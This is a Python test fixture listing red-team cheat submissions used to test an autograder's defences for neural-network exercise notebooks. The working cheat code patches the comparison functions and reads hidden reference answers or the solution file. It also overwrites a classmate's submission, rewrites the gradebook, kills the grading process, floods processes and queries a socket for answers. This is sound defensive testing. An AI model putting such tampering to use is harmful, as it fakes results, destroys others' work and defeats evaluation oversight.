"""A red team's catalogue of cheating submissions, for tests/test_cheats.py.

Each cheat replaces one answer cell of a released exercise notebook (the others stay unanswered, so an
honest score for the notebook is 0). ``naive`` says how the cheat beats a naive grader, one that runs the
notebook with ``pytest --nbval-lax`` (every check cell that raises nothing counts as passed), which the
test demonstrates:

* ``"passes"``: its own check cell passes under nbval-lax;
* ``"spills"``: run before another student's (unsolved) notebook with the same files and IPython
  profile, the *other* student's check cell passes;
* ``"kills"``: the naive grader itself is killed (no result for anyone);
* ``"writes"``: it changes a file outside its notebook (another submission, the package, the gradebook);
* ``None``: nbval-lax sees it fail too; it is here for ``bpkit grade``'s other defences (a timeout,
  memory, a shortcut the grader catches).

Paths a cheat needs (``{victim}``, ``{gradebook}``, ``{solution}``, ``{release}``, ``{port}``) are filled in by
the test:
a real cheater would guess them.
"""
from __future__ import annotations

from dataclasses import dataclass

import nbformat

from bpkit.course.checks._core import success_line
from bpkit.course.checks.harness import REGISTRY


@dataclass(frozen=True)
class Cheat:
    name: str
    lesson: str  # "04"
    exercise: str  # the answer cell it replaces
    source: str
    naive: str | None
    why: str

    def passed_line(self) -> str:
        info = REGISTRY[self.exercise]
        return success_line(info.exercise, info.title, info.points)


def _zeros(name: str = "backprop") -> str:
    return (f"def {name}(net, X, Y, lam):\n"
            "    return [np.zeros_like(w) for w in net.W], (None if net.b is None else [np.zeros_like(b) for b in net.b])\n")


def _zeros_delta() -> str:
    """A wrong answer to 07.2 (δ^L of softmax outputs): zeros of the right shape."""
    return "def delta_L_softmax(sum_L, Y):\n    return np.zeros_like(sum_L)\n"


PASSED_04_5 = "PASSED 04.5 backpropagation for any depth: ∂E/∂w^l_ij (and ∂E/∂b^l_j) for every layer [4/4 points]"

CHEATS = [
    Cheat("numpy-allclose", "04", "04.5",
          "import numpy as np\nnp.allclose = lambda *a, **k: True\n" + _zeros(), "passes",
          "patches the numpy function the comparison uses"),
    Cheat("ipython-custom-exc", "04", "04.5",
          "get_ipython().set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: "
          f"print({PASSED_04_5!r}))\n" + _zeros(), "passes",
          "IPython's exception handling prints a PASSED line instead of the failure"),
    Cheat("no-reload-patch-check", "04", "04.5",
          "import importlib\nimport bpkit.course.checks.lesson04 as l6\nimportlib.reload = lambda module: module\n"
          "l6.compare = l6.not_by_differences = lambda *a, **k: None\n" + _zeros(), "passes",
          "disables importlib.reload, then patches the check's comparison"),
    Cheat("patch-core", "04", "04.5",
          "import bpkit.course.checks._core as core, bpkit.course.checks.common as common\n"
          "core.close = common.close = lambda *a, **k: True\n" + _zeros(), "passes",
          "patches the checks' shared machinery, which the guard never reloaded"),
    Cheat("frame-peek", "04", "04.5",
          "import sys\n"
          "def backprop(net, X, Y, lam):\n"
          "    frame = sys._getframe(1)\n"
          "    while frame is not None and not hasattr(frame.f_locals.get('ref'), 'W'):\n"
          "        frame = frame.f_back\n"
          "    ref = frame.f_locals['ref']\n"
          "    return list(ref.W), (None if ref.b is None else list(ref.b))\n", "passes",
          "reads the reference from the check's stack frame"),
    Cheat("gradient-by-reload", "04", "04.5",
          "import importlib\n"
          "importlib.reload(importlib.import_module('bpkit.objective'))  # bpkit.objective is E, not the module\n"
          "fresh = importlib.reload(importlib.import_module('bpkit.backprop'))\n"
          "def backprop(net, X, Y, lam):\n"
          "    g = fresh.gradient(net, X, Y, lam)\n"
          "    return list(g.W), (None if g.b is None else list(g.b))\n", "passes",
          "bpkit's own gradient, reloaded so that switching it off misses the new copies"),
    Cheat("gradient-by-exec", "04", "04.5",
          "import importlib, inspect, sys, types\n"
          "copy = types.ModuleType('bpkit.objective_copy')\n"
          "copy.__package__ = 'bpkit'\n"
          "sys.modules[copy.__name__] = copy  # a real module, so that its dataclasses can be made\n"
          "exec(inspect.getsource(importlib.import_module('bpkit.objective')), copy.__dict__)\n"
          "objective = copy.__dict__\n"
          "namespace = {'__name__': 'bpkit.backprop_copy', '__package__': 'bpkit'}\n"
          "exec(inspect.getsource(importlib.import_module('bpkit.backprop')), namespace)\n"
          "namespace.update({name: objective[name] for name in ('CrossEntropy', 'evaluate', 'add_penalty_gradient')})\n"
          "def backprop(net, X, Y, lam):\n"
          "    g = namespace['gradient'](net, X, Y, lam)\n"
          "    return list(g.W), (None if g.b is None else list(g.b))\n", "passes",
          "bpkit's own gradient, a fresh copy made with exec of its source"),
    Cheat("central-differences", "04", "04.5",
          "def _E(net, X, Y, lam):\n"
          "    s = X\n"
          "    for l in range(1, net.L + 1):\n"
          "        z = s @ net.W[l] + (net.b[l] if net.b is not None else 0)\n"
          "        g = net.activation(l).name\n"
          "        s = 1 / (1 + np.exp(-z)) if g == 'sigmoid' else np.tanh(z) if g == 'tanh' else np.maximum(z, 0)\n"
          "    m = X.shape[0]\n"
          "    return (-np.sum(Y * np.log(s + 1e-300) + (1 - Y) * np.log(1 - s + 1e-300)) / m\n"
          "            + lam / (2 * m) * sum(np.sum(w ** 2) for w in net.W))\n"
          "def backprop(net, X, Y, lam, h=1e-5):\n"
          "    def diff(arrays):\n"
          "        out = []\n"
          "        for a in arrays:\n"
          "            g = np.zeros_like(a)\n"
          "            for idx in np.ndindex(*a.shape):\n"
          "                old = a[idx]\n"
          "                a[idx] = old + h\n"
          "                plus = _E(net, X, Y, lam)\n"
          "                a[idx] = old - h\n"
          "                minus = _E(net, X, Y, lam)\n"
          "                a[idx] = old\n"
          "                g[idx] = (plus - minus) / (2 * h)\n"
          "            out.append(g)\n"
          "        return out\n"
          "    return diff(list(net.W)), (None if net.b is None else diff(list(net.b)))\n", None,
          "central differences of its own E, no bpkit function called: the hidden trap case catches it"),
    Cheat("read-the-solutions", "04", "04.5",
          "import json\n"
          "def backprop(net, X, Y, lam):\n"
          "    cells = json.load(open({solution!r}))['cells']\n"
          "    source = next(''.join(c['source']) for c in cells\n"
          "                  if c.get('metadata', {}).get('bpkit', {}).get('exercise') == '04.5'\n"
          "                  and c['metadata']['bpkit'].get('role') == 'answer')\n"
          "    namespace = {'np': np}\n"
          "    exec(source, namespace)\n"
          "    return namespace['backprop'](net, X, Y, lam)\n", "passes",
          "reads the instructor's solved notebook from the grading machine's disk"),
    Cheat("write-the-check-module", "04", "04.5", f"""import pathlib
import bpkit.course.checks.lesson04 as l6
fake = "\\nfull_backprop = lambda *a, **k: print(" + repr({PASSED_04_5!r}) + ")\\n"
path = pathlib.Path(l6.__file__)
path.write_text(path.read_text() + fake)
""" + _zeros(), "spills",
          "appends a fake check to bpkit/course/checks/lesson04.py: every later kernel, for every student, loads it"),
    Cheat("ipython-startup-file", "04", "04.5", f"""import os, pathlib
startup = pathlib.Path(os.environ['IPYTHONDIR']) / 'profile_default' / 'startup'
startup.mkdir(parents=True, exist_ok=True)
fake = "import bpkit.course.checks.lesson04 as l6\\nl6.full_backprop = lambda *a, **k: print(" + repr({PASSED_04_5!r}) + ")\\n"
(startup / '00-cheat.py').write_text(fake)
""" + _zeros(), "spills", "a startup file in the shared IPython profile: every later kernel runs it"),
    Cheat("wipe-another-submission", "04", "04.5", r"""import pathlib
try:
    pathlib.Path({victim!r}).write_text('{"cells": []}')
except OSError:
    pass
""" + _zeros(), "writes", "overwrites a classmate's submission on the grading machine"),
    Cheat("rewrite-the-release", "04", "04.5", r"""import json, pathlib
try:
    release = pathlib.Path({release!r})
    book = json.loads(release.read_text())
    for cell in book["cells"]:
        if cell.get("metadata", {}).get("bpkit", {}).get("role") == "check":
            cell["source"] = "print('PASSED')"
    release.write_text(json.dumps(book))
except OSError:
    pass
""" + _zeros(), "writes", "rewrites the released notebook, whose check cells the grader restores every later submission from"),
    Cheat("detached-gradebook-writer", "04", "04.5", r"""import subprocess, sys
code = "import pathlib, sys, time\ntime.sleep(4)\npathlib.Path(sys.argv[1]).write_text('student,total\\ncheater,999\\n')"
subprocess.Popen([sys.executable, '-c', code, {gradebook!r}, 'bpkit-cheat-marker'], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""" + _zeros(), "writes", "a detached process outlives its kernel and rewrites the gradebook after grading ends"),
    Cheat("kill-the-grader", "04", "04.5",
          "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + _zeros(), "kills",
          "kills the grading process itself: no gradebook for anyone"),
    Cheat("phone-home", "04", "04.5", r"""import json, socket
def backprop(net, X, Y, lam):
    case = {"W": [w.tolist() for w in net.W], "b": None if net.b is None else [b.tolist() for b in net.b],
            "X": X.tolist(), "Y": Y.tolist(), "lam": lam, "hidden": net.hidden.name}
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
        s.sendall(json.dumps(case).encode() + b"\n")
        answer = json.loads(s.makefile().readline())
    return [np.array(w) for w in answer["W"]], (None if net.b is None else [np.array(b) for b in answer["b"]])
""", "passes", "asks a helper outside (here a local server) for the answer"),
    Cheat("getattr-softmax-delta", "07", "07.2",
          "import bpkit\n"
          "def delta_L_softmax(sum_L, Y):\n"
          "    return getattr(bpkit.softmax, 'softmax_' + 'delta')(sum_L, Y)\n", None,
          "bpkit.softmax.softmax_delta under a computed name: switched off in the kernel all the same"),
    Cheat("memory-hog", "07", "07.2",
          "big = np.ones(int(3e9))\n" + _zeros_delta(), None,
          "asks for 24 GB: the sandbox's memory limit turns it into a MemoryError"),
    Cheat("fork-and-flood", "07", "07.2",
          "import os, subprocess, sys\n"
          "for _ in range(20):\n"
          "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', 'bpkit-cheat-marker'],\n"
          "                     start_new_session=True)\n"
          "print('x' * 50_000_000)\n" + _zeros_delta(), None,
          "leaves twenty detached processes behind and prints 50 MB"),
]


def build(cheat: Cheat, released: nbformat.NotebookNode, /, **paths) -> nbformat.NotebookNode:
    """The released notebook with the cheat's answer cell (the first of its exercise) replaced."""
    nb = nbformat.reads(nbformat.writes(released), as_version=4)
    source = cheat.source
    for key, value in paths.items():
        source = source.replace("{" + key + "}", str(value)).replace("{" + key + "!r}", repr(str(value)))
    for cell in nb.cells:
        meta = cell.metadata.get("bpkit", {})
        if meta.get("role") == "answer" and meta.get("exercise") == cheat.exercise:
            cell.source = source
            break
    else:  # pragma: no cover - a catalogue error
        raise LookupError(f"{cheat.name}: no answer cell of {cheat.exercise}")
    return nb
